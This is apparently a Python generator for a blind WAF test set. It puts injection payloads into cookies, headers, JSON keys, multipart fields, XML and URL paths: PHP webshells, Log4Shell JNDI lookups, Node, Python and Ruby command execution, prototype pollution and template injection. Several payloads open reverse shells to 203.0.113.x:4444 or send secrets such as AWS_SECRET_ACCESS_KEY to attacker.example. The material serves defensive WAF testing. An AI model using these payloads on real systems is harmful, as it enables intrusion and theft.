"""Blind set "thirtyfourth": PHP, Java, generic (Node.js, prototype pollution, Python, Ruby) and template
injection, placed where a WAF reads least.

Angle: PLACEMENT. Every payload is a short canonical shape of its family, and each goes into three of
twenty-four places a WAF is least likely to read closely, rotating: cookie values (URL-encoded and raw, in
cookies with realistic names: session cookies, prefs, theme, lang, cart, analytics), cookie names, custom
request headers (X-Forwarded-For, X-Forwarded-Host, X-Api-Version, X-Requested-With, X-Client-Data,
X-Custom-*, True-Client-IP, Forwarded, Accept-Language, If-None-Match, a Content-Type parameter), the
User-Agent and the Referer, query parameter names, nested JSON keys, multipart part names, filenames and file
contents, XML bodies (element text and attributes) and the URL path itself. Header and cookie placements ride
on three real routes in turn (GET /api/users, POST /oauth/token, POST /me/location). Prototype pollution is
a key path, not a value: it goes into query names, nested JSON keys, cookie names, multipart part names and
XML element names.

Families (category / sub): php (func, superglobal, wrapper, opentag, serialized), java (runtime, ognl, spel,
el, jndi, serialized, gadget), generic (nodejs, pollution, python, ruby), ssti (jinja2, twig, freemarker,
velocity, thymeleaf, erb, smarty, handlebars, other). The benign half carries the same words and shapes
innocently: developers' Slack messages (also saved as bios), documentation links, prose, and realistic
values in the same placements (analytics cookies, ETags, proxies' forwarding headers, bracketed filter
names, nested JSON settings, uploads, XML).

Authorship and independence: every payload and benign text was written for this set from general knowledge
of each family, without reading the repository's WAF rules, any ruleset or its regression tests, other
generators' payload lists or any public payload list. The set is measured once on the unchanged code and
not changed after seeing what is blocked. Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import re
import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "thirtyfourth"

PHP = [
    ("func", "system('id');"),
    ("func", "passthru(\"cat /etc/passwd\");"),
    ("func", "shell_exec('ls -la /var/www');"),
    ("func", "exec('whoami', $out);"),
    ("func", "popen('id', 'r');"),
    ("func", "proc_open('/bin/sh', $d, $pipes);"),
    ("func", "assert($_REQUEST['c']);"),
    ("func", "eval($_POST['code']);"),
    ("func", "create_function('', 'system(\"id\");');"),
    ("func", "preg_replace('/a/e', 'phpinfo()', 'a');"),
    ("func", "call_user_func('system', 'uname -a');"),
    ("func", "array_map('passthru', array('id'));"),
    ("func", "file_put_contents('x.php', '<?php system($_GET[0]);');"),
    ("func", "include($_GET['page']);"),
    ("func", "require_once('/tmp/sess_abc');"),
    ("func", "highlight_file('/etc/passwd');"),
    ("func", "phpinfo();"),
    ("func", "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));"),
    ("func", "pcntl_exec('/bin/sh', array('-c', 'id'));"),
    ("func", "fsockopen('203.0.113.7', 4444);"),
    ("func", "unserialize($_COOKIE['data']);"),
    ("func", "file_get_contents('/etc/shadow');"),
    ("superglobal", "$_GET['cmd']"),
    ("superglobal", "${_POST}[0]"),
    ("superglobal", "$_REQUEST['x']($_REQUEST['y'])"),
    ("superglobal", "$_COOKIE['c']"),
    ("superglobal", "$_SERVER['HTTP_USER_AGENT']"),
    ("superglobal", "$_FILES['f']['tmp_name']"),
    ("superglobal", "$GLOBALS['_GET']['a']"),
    ("superglobal", "echo $_ENV['DB_PASSWORD'];"),
    ("superglobal", "$_SESSION['is_admin']=1;"),
    ("wrapper", "php://input"),
    ("wrapper", "php://filter/read=convert.base64-encode/resource=config.php"),
    ("wrapper", "php://filter/convert.iconv.UTF8.UTF7/resource=/etc/passwd"),
    ("wrapper", "phar://uploads/avatar.jpg/test.txt"),
    ("wrapper", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+"),
    ("wrapper", "expect://whoami"),
    ("wrapper", "zip://uploads/a.zip#shell.php"),
    ("wrapper", "compress.zlib:///etc/passwd"),
    ("wrapper", "php://stdin"),
    ("opentag", "<?php system($_GET['c']); ?>"),
    ("opentag", "<?= `ls` ?>"),
    ("opentag", "<? passthru($_REQUEST[1]) ?>"),
    ("opentag", "<script language=\"php\">system(\"id\");</script>"),
    ("opentag", "GIF89a<?php eval($_POST[0]);?>"),
    ("opentag", "<?php echo file_get_contents('/etc/hosts'); ?>"),
    ("opentag", "<?php $c=$_GET['c'];`$c`;"),
    ("func", "array_walk($a, 'system');"),
    ("func", "ob_start('passthru'); echo 'id'; ob_end_flush();"),
    ("func", "mb_ereg_replace('.*', 'system(\"id\")', 'x', 'e');"),
    ("func", "(new ReflectionFunction('system'))->invoke('id');"),
    ("func", "extract($_GET); $f($a);"),
    ("func", "parse_str($_SERVER['QUERY_STRING']);"),
    ("func", "$f=create_function('$a','return `$a`;');"),
    ("func", "fwrite(fopen('s.php','w'), '<?php eval($_POST[x]);');"),
    ("func", "copy('http://attacker.example/s.txt', 's.php');"),
    ("func", "symlink('/etc/passwd', 'x.txt');"),
    ("superglobal", "$_GET[a]($_GET[b]);"),
    ("superglobal", "@$_POST['x']($_POST['y']);"),
    ("superglobal", "$HTTP_GET_VARS['cmd']"),
    ("wrapper", "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/.env"),
    ("wrapper", "phar:///tmp/uploads/invoice.pdf"),
    ("opentag", "<?php $s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>"),
    ("opentag", "<?php include('php://input'); ?>"),
    ("serialized", "O:8:\"stdClass\":1:{s:3:\"cmd\";s:2:\"id\";}"),
    ("serialized", "a:1:{i:0;O:10:\"FileLogger\":1:{s:4:\"path\";s:9:\"shell.php\";}}"),
    ("serialized", "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:6:\"events\";N;}"),
    ("serialized", "O:+4:\"Evil\":0:{}"),
    ("serialized", "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}"),
    ("serialized", "O:21:\"Monolog\\Handler\\Buffer\":2:{s:1:\"a\";i:1;s:1:\"b\";b:1;}"),
    ("serialized", "a:2:{s:4:\"user\";s:5:\"admin\";s:4:\"role\";O:4:\"Role\":0:{}}"),
]

JAVA = [
    ("runtime", "Runtime.getRuntime().exec(\"id\")"),
    ("runtime", "java.lang.Runtime.getRuntime().exec(\"cat /etc/passwd\")"),
    ("runtime", "new ProcessBuilder(\"bash\",\"-c\",\"id\").start()"),
    ("runtime", "new java.lang.ProcessBuilder(new String[]{\"sh\"}).start()"),
    ("runtime", "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)"),
    ("runtime", "java.lang.System.exit(0)"),
    ("runtime", "new java.io.FileInputStream(\"/etc/passwd\")"),
    ("runtime", "javax.script.ScriptEngineManager"),
    ("ognl", "%{(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}"),
    ("ognl", "%{@java.lang.Runtime@getRuntime().exec('id')}"),
    ("ognl", "${(#_memberAccess['allowStaticMethodAccess']=true)}"),
    ("ognl", "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}"),
    ("ognl", "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)"),
    ("ognl", "%{#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl", "#application['org.apache.tomcat.InstanceManager']"),
    ("ognl", "%{#ctx=#attr['struts.valueStack'].context}"),
    ("spel", "T(java.lang.Runtime).getRuntime().exec('id')"),
    ("spel", "#{T(java.lang.System).getenv()}"),
    ("spel", "${T(java.lang.Thread).sleep(5000)}"),
    ("spel", "#{new java.lang.ProcessBuilder('id').start()}"),
    ("spel", "T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('id'))"),
    ("spel", "#{T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))}"),
    ("spel", "*{T(java.lang.Runtime).getRuntime().exec('whoami')}"),
    ("el", "${pageContext.request.getSession()}"),
    ("el", "${applicationScope['javax.servlet.context.tempdir']}"),
    ("el", "${\"\".getClass().forName(\"java.lang.Runtime\")}"),
    ("el", "#{facesContext.externalContext.request}"),
    ("el", "${header['cookie']}${sessionScope}"),
    ("el", "${initParam}"),
    ("el", "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime')}"),
    ("jndi", "${jndi:ldap://203.0.113.5:1389/Exploit}"),
    ("jndi", "${jndi:rmi://attacker.example/obj}"),
    ("jndi", "${jndi:dns://attacker.example/a}"),
    ("jndi", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
    ("jndi", "${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/y}"),
    ("jndi", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/z}"),
    ("jndi", "${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/q}"),
    ("jndi", "${${env:X:-j}ndi:nis://attacker.example/n}"),
    ("jndi", "${jndi:http://attacker.example/a.class}"),
    ("serialized", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg=="),
    ("serialized", "aced0005737200116a6176612e7574696c2e486173684d6170"),
    ("serialized", "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u"),
    ("serialized", "H4sIAAAAAAAA/5VSTW/TQBDd"),
    ("serialized", "<java.beans.XMLDecoder><object class=\"java.lang.ProcessBuilder\"></object>"
                   "</java.beans.XMLDecoder>"),
    ("serialized", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/a\"}"),
    ("serialized", "[\"ch.qos.logback.core.db.JNDIConnectionSource\",{\"jndiLocation\":\"ldap://attacker.example/b\"}]"),
    ("runtime", "Runtime.getRuntime().exec(new String[]{\"/bin/bash\",\"-c\",\"id\"})"),
    ("runtime", "((java.lang.Runtime)Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null))"),
    ("runtime", "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"1\")"),
    ("runtime", "java.lang.ProcessImpl.start(cmd, null, null, null, false)"),
    ("ognl", "%{(#os=@java.lang.System@getProperty('os.name'))}"),
    ("ognl", "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("spel", "${T(java.lang.Class).forName('java.lang.Runtime')}"),
    ("spel", "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"),
    ("el", "${facesContext.getExternalContext().getResponse().getWriter()}"),
    ("el", "${sessionScope.user.getClass().getClassLoader()}"),
    ("jndi", "${jndi:ldaps://attacker.example:636/c}"),
    ("jndi", "${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/u}"),
    ("jndi", "${jndi:${sys:java.version}.attacker.example}"),
    ("serialized", "rO0ABXcEAAAAAHNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ=="),
    ("gadget", "org.apache.commons.beanutils.BeanComparator"),
    ("gadget", "org.hibernate.engine.spi.TypedValue"),
    ("gadget", "org.apache.commons.collections.functors.InvokerTransformer"),
    ("gadget", "org.apache.commons.collections4.functors.ChainedTransformer"),
    ("gadget", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"),
    ("gadget", "org.codehaus.groovy.runtime.ConvertedClosure"),
    ("gadget", "java.lang.reflect.Proxy"),
    ("gadget", "org.springframework.beans.factory.ObjectFactory"),
    ("gadget", "com.mchange.v2.c3p0.WrapperConnectionPoolDataSource"),
    ("gadget", "sun.rmi.server.UnicastRef"),
    ("gadget", "bsh.XThis"),
    ("gadget", "javax.management.BadAttributeValueExpException"),
]

NODE = [
    ("nodejs", "require('child_process').exec('id')"),
    ("nodejs", "require(\"child_process\").execSync(\"cat /etc/passwd\").toString()"),
    ("nodejs", "require('child_process').spawn('/bin/sh', ['-c', 'id'])"),
    ("nodejs", "require('fs').readFileSync('/etc/passwd', 'utf8')"),
    ("nodejs", "require('fs').writeFileSync('/tmp/x', 'pwned')"),
    ("nodejs", "process.mainModule.require('child_process').execSync('id')"),
    ("nodejs", "process.binding('fs')"),
    ("nodejs", "process.env.DATABASE_URL"),
    ("nodejs", "process.exit(1)"),
    ("nodejs", "global.process.kill(process.pid)"),
    ("nodejs", "new Function('return process')().env"),
    ("nodejs", "Function('return this')().process.exit()"),
    ("nodejs", "this.constructor.constructor('return process')()"),
    ("nodejs", "[].constructor.constructor('return require')()('fs')"),
    ("nodejs", "eval(\"require('child_process').exec('ls')\")"),
    ("nodejs", "setTimeout(\"process.exit()\", 1)"),
    ("nodejs", "require('vm').runInNewContext('this.constructor.constructor(\"return process\")()')"),
    ("nodejs", "module.require('net').connect(4444, '203.0.113.9')"),
    ("nodejs", "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"),
    ("nodejs", "res.end(require('fs').readdirSync('/').join())"),
    ("nodejs", "import('child_process').then(c => c.execSync('id'))"),
    ("nodejs", "require('child_process').execFileSync('/bin/sh', ['-c', 'id'])"),
    ("nodejs", "process.dlopen(module, '/tmp/evil.node')"),
    ("nodejs", "global.require = process.mainModule.require; require('fs')"),
    ("nodejs", "Object.getPrototypeOf(async function(){}).constructor('return process')()"),
    ("nodejs", "require('http').get('http://attacker.example/?d=' + process.env.SECRET)"),
    ("nodejs", "setInterval(\"require('fs').rmSync('/tmp', {recursive: true})\", 1000)"),
    ("nodejs", "Buffer.from('aWQ=', 'base64').toString(); require('child_process')"),
]

POLLUTION = [
    ("__proto__[isAdmin]", "true"),
    ("__proto__.polluted", "yes"),
    ("constructor[prototype][isAdmin]", "true"),
    ("constructor.prototype.role", "admin"),
    ("user[__proto__][admin]", "1"),
    ("settings.__proto__.shell", "/bin/sh"),
    ("__proto__[outputFunctionName]", "x;process.mainModule.require('child_process').execSync('id');s"),
    ("a[constructor][prototype][toString]", "1"),
    ("filter[__proto__][status]", "active"),
    ("__proto__[NODE_OPTIONS]", "--require /proc/self/environ"),
    ("options.constructor.prototype.debug", "true"),
    ("__proto__[sourceURL]", "\nreturn process.mainModule.require('child_process').execSync('id')"),
    ("prefs[__proto__][allowAll]", "true"),
    ("__proto__[argv0]", "node"),
    ("x.constructor.prototype.polluted", "1"),
    ("__proto__[client]", "1"),
    ("__proto__[shell]", "/proc/self/exe"),
    ("body[constructor][prototype][isAdmin]", "true"),
    ("__proto__.env.NODE_DEBUG", "1"),
    ("cfg[__proto__][layout]", "../../etc/passwd"),
    ("data[0][__proto__][escapeFunction]", "process.exit"),
    ("constructor[prototype][execArgv][]", "--eval=require('child_process').execSync('id')"),
]

PYTHON = [
    ("python", "__import__('os').system('id')"),
    ("python", "__import__(\"subprocess\").check_output([\"cat\",\"/etc/passwd\"])"),
    ("python", "os.system('curl attacker.example | sh')"),
    ("python", "os.popen('id').read()"),
    ("python", "subprocess.Popen(['/bin/sh','-c','id'])"),
    ("python", "subprocess.call('whoami', shell=True)"),
    ("python", "exec(\"import os; os.system('id')\")"),
    ("python", "eval(compile('import os', '<s>', 'exec'))"),
    ("python", "pickle.loads(base64.b64decode('gASVIAAAAAAAAACMAm9zlIwGc3lzdGVtlJOUjAJpZJSFlFKULg=='))"),
    ("python", "cos\nsystem\n(S'id'\ntR."),
    ("python", "().__class__.__bases__[0].__subclasses__()"),
    ("python", "''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read()"),
    ("python", "getattr(__import__('os'), 'system')('id')"),
    ("python", "__builtins__.__dict__['__import__']('os').popen('ls')"),
    ("python", "open('/etc/passwd').read()"),
    ("python", "yaml.load('!!python/object/apply:os.system [\"id\"]')"),
    ("python", "!!python/object/apply:subprocess.check_output [[\"id\"]]"),
    ("python", "os.execv('/bin/sh', ['sh', '-c', 'id'])"),
    ("python", "importlib.import_module('os').system('id')"),
    ("python", "globals()['__builtins__']['eval']('1+1')"),
    ("python", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id')"),
    ("python", "socket.socket().connect(('203.0.113.9', 4444))"),
    ("python", "marshal.loads(b'\\xe3')"),
    ("python", "import pty; pty.spawn('/bin/bash')"),
]

RUBY = [
    ("ruby", "Kernel.system('id')"),
    ("ruby", "system(\"cat /etc/passwd\")"),
    ("ruby", "IO.popen('id').read"),
    ("ruby", "`id`"),
    ("ruby", "%x(whoami)"),
    ("ruby", "exec('/bin/sh')"),
    ("ruby", "Open3.capture2('id')"),
    ("ruby", "File.read('/etc/passwd')"),
    ("ruby", "eval(params[:code])"),
    ("ruby", "instance_eval('system(\"id\")')"),
    ("ruby", "Object.const_get(:Kernel).send(:system, 'id')"),
    ("ruby", "open('|id').read"),
    ("ruby", "Marshal.load(Base64.decode64(cookie))"),
    ("ruby", "--- !ruby/object:Gem::Installer\ni: x"),
    ("ruby", "ERB.new(\"<%= `id` %>\").result"),
    ("ruby", "Process.spawn('id')"),
    ("ruby", "Kernel.exec('sh', '-c', 'id')"),
    ("ruby", "%x{cat /etc/passwd}"),
    ("ruby", "send(:system, 'whoami')"),
    ("ruby", "Kernel.open('|cat /etc/passwd')"),
    ("ruby", "YAML.load(\"--- !ruby/object:OpenStruct\\ntable: {}\")"),
    ("ruby", "PTY.spawn('id')"),
]

SSTI = [
    ("jinja2", "{{7*7}}"),
    ("jinja2", "{{config.items()}}"),
    ("jinja2", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("jinja2", "{{cycler.__init__.__globals__.os.popen('id').read()}}"),
    ("jinja2", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("jinja2", "{% for c in [].__class__.__base__.__subclasses__() %}{{c}}{% endfor %}"),
    ("jinja2", "{{lipsum.__globals__['os'].popen('ls').read()}}"),
    ("jinja2", "{{self._TemplateReference__context.joiner.__init__.__globals__.os}}"),
    ("jinja2", "{{url_for.__globals__['current_app'].config}}"),
    ("twig", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("twig", "{{['id']|filter('system')}}"),
    ("twig", "{{['cat /etc/passwd']|map('passthru')|join}}"),
    ("twig", "{{app.request.server.all|join(',')}}"),
    ("twig", "{{'/etc/passwd'|file_excerpt(1,30)}}"),
    ("twig", "{% set x = ['id']|filter('system') %}"),
    ("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("freemarker", "${\"freemarker.template.utility.Execute\"?new()(\"whoami\")}"),
    ("freemarker", "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"),
    ("freemarker", "${product.getClass().getProtectionDomain().getCodeSource()}"),
    ("freemarker", "[#assign x='freemarker.template.utility.Execute'?new()]${x('id')}"),
    ("velocity", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))"),
    ("velocity", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"),
    ("velocity", "$class.inspect('java.lang.Runtime').type.getRuntime().exec('id')"),
    ("velocity", "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end"),
    ("thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("thymeleaf", "[[${T(java.lang.System).getenv()}]]"),
    ("thymeleaf", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__"),
    ("thymeleaf", "[(${@environment.getProperty('spring.datasource.password')})]"),
    ("erb", "<%= 7*7 %>"),
    ("erb", "<%= system('id') %>"),
    ("erb", "<%= `cat /etc/passwd` %>"),
    ("erb", "<%= File.open('/etc/passwd').read %>"),
    ("erb", "<%= IO.popen('whoami').readlines() %>"),
    ("smarty", "{php}echo `id`;{/php}"),
    ("smarty", "{system('id')}"),
    ("smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\","
               "self::clearConfig())}"),
    ("smarty", "{$smarty.version}"),
    ("smarty", "{if phpinfo()}{/if}"),
    ("handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
                   "{{/with}}{{/with}}{{/with}}"),
    ("handlebars", "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}"),
    ("handlebars", "{{lookup (lookup this 'constructor') 'constructor'}}"),
    ("handlebars", "{{constructor.constructor('return process')()}}"),
    ("jinja2", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"),
    ("jinja2", "{{''|attr('__class__')|attr('__mro__')}}"),
    ("jinja2", "{% import os %}{{os.system('id')}}"),
    ("jinja2", "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}"),
    ("twig", "{{['id',1]|sort('system')}}"),
    ("twig", "{{_self.env.setCache('ftp://attacker.example:2121')}}"),
    ("freemarker", "${\"freemarker.template.utility.ObjectConstructor\"?new()"
                   "(\"java.lang.ProcessBuilder\",\"id\").start()}"),
    ("freemarker", "<#assign cl=object?api.class.getClassLoader()>"),
    ("velocity", "$rt.getRuntime().exec('id')"),
    ("velocity", "#set($str=$class.inspect('java.lang.String').type)"),
    ("thymeleaf", "${#ctx.getClass().forName('java.lang.Runtime')}"),
    ("erb", "<%= Kernel.system('whoami') %>"),
    ("erb", "<% require 'open3'; Open3.capture2('id') %>"),
    ("smarty", "{fetch file='/etc/passwd'}"),
    ("handlebars", "{{#each (lookup this 'constructor')}}{{this}}{{/each}}"),
    ("other", "#{7*7}"),
    ("other", "${7*7}"),
    ("other", "{{=7*7}}"),
    ("other", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("other", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("other", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("other", "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))"),
    ("other", "${{<%[%'\"}}%\\."),
]

CATEGORIES: list[tuple[str, list[tuple[str, str]]]] = [
    ("php", PHP), ("java", JAVA), ("generic", NODE + PYTHON + RUBY), ("ssti", SSTI)]

PLACES = ["cookie-enc", "cookie-raw", "cookie-name", "hdr-xff", "hdr-xfh", "hdr-api-version",
          "hdr-x-requested-with", "hdr-x-client-data", "hdr-x-custom", "hdr-true-client-ip", "hdr-forwarded",
          "hdr-accept-language", "hdr-if-none-match", "hdr-content-type-param", "user-agent", "referer",
          "query-name", "json-key", "mp-name", "mp-filename", "mp-content", "xml-text", "xml-attr", "path"]
POLLUTION_PLACES = ["query-name", "json-key", "cookie-name", "mp-name", "xml-elem"]

COOKIE_NAMES = ["PHPSESSID", "JSESSIONID", "connect.sid", "_session_id", "prefs", "theme", "lang", "cart",
                "_ga", "_fbp", "remember_token", "tracking_id", "ajs_user_id", "laravel_session", "_hjid"]
CUSTOM_HEADERS = ["X-Custom-Trace", "X-Custom-Tenant", "X-Custom-Locale", "X-Custom-Feature"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
CSRF = "t0k3n"


def _clean(value: str) -> str:
    """A header-safe value: nginx refuses CR, LF and NUL before the WAF."""
    return value.replace("\r", " ").replace("\n", " ").replace("\x00", " ")


def _base(i: int) -> dict[str, Any]:
    """The request a header or cookie rides on: one of three real routes, rotating."""
    k = i % 3
    if k == 0:
        rec = _get("/api/users?page=1")
    elif k == 1:
        rec = _form("/oauth/token", [("grant_type", "client_credentials"), ("scope", "read")])
    else:
        rec = _form("/me/location", [("csrf_token", CSRF), ("place", "Paris")])
    return {**rec, "headers": dict(rec["headers"])}


def _with_headers(i: int, extra: dict[str, str]) -> dict[str, Any]:
    rec = _base(i)
    rec["headers"].update({k: _clean(v) for k, v in extra.items()})
    return rec


def _multipart(uri: str, parts: list[tuple[str, str | None, str | None, str]]) -> dict[str, Any]:
    """A multipart/form-data body: parts of (name, filename, content type, content); names and filenames get
    the browser's escaping of quotes and line breaks."""
    lines = []
    for name, filename, ctype, content in parts:
        disp = f'form-data; name="{_mp_escape(name)}"'
        if filename is not None:
            disp += f'; filename="{_mp_escape(filename)}"'
        lines.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}\r\n")
        if ctype:
            lines.append(f"Content-Type: {ctype}\r\n")
        lines.append(f"\r\n{content}\r\n")
    lines.append(f"--{BOUNDARY}--\r\n")
    return {"method": "POST", "uri": uri, "body": "".join(lines),
            "headers": {"User-Agent": UA, "Accept": "text/html,application/json",
                        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}}


def _mp_escape(value: str) -> str:
    return value.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A").replace("\x00", "")


def _xml(body: str) -> dict[str, Any]:
    return {"method": "POST", "uri": "/api/users", "body": '<?xml version="1.0" encoding="UTF-8"?>\n' + body,
            "headers": {"User-Agent": UA, "Accept": "application/xml", "Content-Type": "text/xml; charset=utf-8"}}


def _xml_safe(value: str) -> str:
    return value.replace("\x00", "")


def _key_path(path: str) -> list[str]:
    return [k for k in re.split(r"[\[\].]", path) if k != ""] or [path]


def _nest(keys: list[str], value: Any) -> Any:
    for k in reversed(keys):
        value = {k: value}
    return value


def place(where: str, i: int, payload: str) -> dict[str, Any]:
    """The i-th payload in one placement."""
    cname = COOKIE_NAMES[i % len(COOKIE_NAMES)]
    if where == "cookie-enc":
        return _with_headers(i, {"Cookie": f"theme=dark; {cname}={urllib.parse.quote(payload, safe='')}; lang=en"})
    if where == "cookie-raw":
        return _with_headers(i, {"Cookie": f"lang=en-GB; {cname}={payload}"})
    if where == "cookie-name":
        name = payload if not re.search(r"[\s;=,\"]", payload) else urllib.parse.quote(payload, safe="")
        return _with_headers(i, {"Cookie": f"_ga=GA1.2.1234567890.1700000000; {name}=1"})
    if where == "hdr-xff":
        return _with_headers(i, {"X-Forwarded-For": f"198.51.100.23, {payload}"})
    if where == "hdr-xfh":
        return _with_headers(i, {"X-Forwarded-Host": payload})
    if where == "hdr-api-version":
        return _with_headers(i, {"X-Api-Version": payload})
    if where == "hdr-x-requested-with":
        return _with_headers(i, {"X-Requested-With": payload})
    if where == "hdr-x-client-data":
        return _with_headers(i, {"X-Client-Data": payload})
    if where == "hdr-x-custom":
        return _with_headers(i, {CUSTOM_HEADERS[i % len(CUSTOM_HEADERS)]: payload})
    if where == "hdr-true-client-ip":
        return _with_headers(i, {"True-Client-IP": payload})
    if where == "hdr-forwarded":
        return _with_headers(i, {"Forwarded": f"for=198.51.100.7;proto=https;host={payload}"})
    if where == "hdr-accept-language":
        return _with_headers(i, {"Accept-Language": f"{payload},en;q=0.8"})
    if where == "hdr-if-none-match":
        return _with_headers(i, {"If-None-Match": f'W/"{payload}"'})
    if where == "hdr-content-type-param":
        rec = _json("/api/users", {"name": "Ann", "email": "ann@example.org"})
        return {**rec, "headers": {**rec["headers"],
                                   "Content-Type": _clean(f"application/json; charset=utf-8; profile={payload}")}}
    if where == "user-agent":
        return _with_headers(i, {"User-Agent": payload})
    if where == "referer":
        return _with_headers(i, {"Referer": "https://www.example.com/search?q=" + urllib.parse.quote(payload, safe="")})
    if where == "query-name":
        safe = "[]" if i % 2 else ""
        return _get("/api/users?page=1&" + urllib.parse.quote(payload, safe=safe) + "=1")
    if where == "json-key":
        return _json("/api/users", {"email": "a@example.org", "profile": {"attributes": {payload: "1"}}})
    if where == "mp-name":
        return _multipart("/admin/users/search", [("csrf_token", None, None, CSRF), (payload, None, None, "1")])
    if where == "mp-filename":
        return _multipart("/admin/users/search", [("csrf_token", None, None, CSRF),
                                                  ("avatar", payload, "image/png", "\x89PNG fake image data")])
    if where == "mp-content":
        uri = "/api/users" if i % 2 else "/admin/users/search"
        return _multipart(uri, [("csrf_token", None, None, CSRF), ("name", None, None, "Ann"),
                                ("attachment", "notes.txt", "text/plain", payload)])
    if where == "xml-text":
        return _xml(f"<user><name>Ann</name><note>{escape(_xml_safe(payload))}</note></user>")
    if where == "xml-attr":
        return _xml(f"<user id=\"42\" role={quoteattr(_xml_safe(payload))}><name>Ann</name></user>")
    if where == "path":
        return _get("/api/users/" + urllib.parse.quote(payload, safe=""))
    raise ValueError(where)


def place_pollution(where: str, i: int, path: str, value: str) -> dict[str, Any]:
    keys = _key_path(path)
    if where == "query-name":
        safe = "[]." if i % 2 else ""
        return _get("/api/users?" + urllib.parse.quote(path, safe=safe) + "=" + urllib.parse.quote(value, safe=""))
    if where == "json-key":
        return _json("/api/users", {"email": "a@example.org", **_nest(keys, value)})
    if where == "cookie-name":
        return _with_headers(i, {"Cookie": f"lang=en; {path}={urllib.parse.quote(value, safe='')}"})
    if where == "mp-name":
        return _multipart("/admin/users/search", [("csrf_token", None, None, CSRF), (path, None, None, value)])
    if where == "xml-elem":
        inner = escape(_xml_safe(value))
        for k in reversed(keys):
            inner = f"<{k}>{inner}</{k}>"
        return _xml(f"<user><name>Ann</name>{inner}</user>")
    raise ValueError(where)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    g = 0
    for category, payloads in CATEGORIES:
        for sub, payload in payloads:
            for k in range(3):
                where = PLACES[(3 * g + k) % len(PLACES)]
                n += 1
                yield {**place(where, g, payload), "id": f"{NAME}-{category}-{sub}-{n:04d}",
                       "category": category, "sub": sub, "placement": where, "payload": payload}
            g += 1
    for j, (path, value) in enumerate(POLLUTION):
        for k in range(3):
            where = POLLUTION_PLACES[(3 * j + k) % len(POLLUTION_PLACES)]
            n += 1
            yield {**place_pollution(where, j, path, value), "id": f"{NAME}-generic-pollution-{n:04d}",
                   "category": "generic", "sub": "pollution", "placement": where, "payload": f"{path}={value}"}


# Benign: the same words and shapes, innocently.
SLACK_TEXTS = [
    "heads up: `system('id')` in the old cron script is gone, we use the job runner now",
    "php 8.3 deprecates some dynamic properties, composer audit is clean though",
    "why does our legacy page still do include($_GET['page'])? filing a ticket to kill it",
    "the session cookie is PHPSESSID on the old app and connect.sid on the node one",
